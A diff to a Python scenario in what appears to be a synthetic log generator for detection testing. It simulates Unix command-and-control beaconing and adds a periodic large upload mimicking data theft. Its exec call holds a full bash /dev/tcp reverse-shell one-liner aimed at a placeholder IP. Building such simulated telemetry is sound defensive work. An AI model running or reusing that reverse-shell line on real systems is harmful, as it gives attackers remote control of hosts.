@@ -813,16 +813,21 @@ def benign_tunnels_and_admin_forwards(rec, t0):
 @scenario
 def x8_unix_scripted_app_c2(rec, t0):
     """Application-layer C2 scripted with the tools every Unix host has (AN1226, AN1227): a
-    Python implant in /tmp polling its HTTPS listener on 8443 every minute (Sysmon for Linux
-    through syslog); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
+    Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
+    archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
     (auditd); on a Mac, an Automator application whose shell step runs curl against its
     server every 30 s (osquery socket_events, and process_open_sockets with the parent)."""
     lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
     implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
                                        "python3 /tmp/.X11-cache/update.py", "www-data")
     for beat in range(20):
+        # check-ins fetch a small task; every fifth one uploads a collected archive
+        upload = 900000 if beat % 5 == 4 else rec.rng.randint(700, 900)
         rec.linux_sysmon_connection(lnx, implant, t0 + 2 + 60.0 * beat + rec.rng.uniform(-6, 6),
-                                    "tcp", "198.51.100.71", 8443)
+                                    "tcp", "198.51.100.71", 8443,
+                                    zeek={"service": "ssl", "duration": 0.8,
+                                          "orig_bytes": upload,
+                                          "resp_bytes": rec.rng.randint(300, 500)})
     shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
     shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
                            ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.90/443; cat <&5 | bash >&5"],
